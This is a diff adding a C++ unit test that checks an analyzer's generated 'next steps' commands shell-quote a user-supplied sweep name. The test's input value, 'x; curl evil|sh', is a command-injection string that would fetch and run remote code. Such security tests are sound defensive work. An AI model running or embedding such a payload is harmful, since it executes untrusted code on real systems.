@@ -38,6 +38,13 @@ TEST(NextSteps, NameTheStoreThatTheCommandNamed) {
   EXPECT_EQ(commands_of(steps_in_store(next_steps_data(example_run()), "")), commands_of(next_steps_data(example_run())));
 }
 
+TEST(NextSteps, AreNoCommandsOfWhoeverNamedTheSweep) {
+  analyzer::ScalingTable sweep;
+  sweep.sweep_id = "x; curl evil|sh";
+  sweep.rows.resize(1);
+  for (const auto& command : commands_of(next_steps_data(sweep))) EXPECT_NE(command.find("'x; curl evil|sh'"), std::string::npos) << command;
+}
+
 TEST(NextSteps, NoPredictionOfWhatCannotBeReplayed) {
   auto run = example_run();
   run.run.run_case.strategy = "zero3";
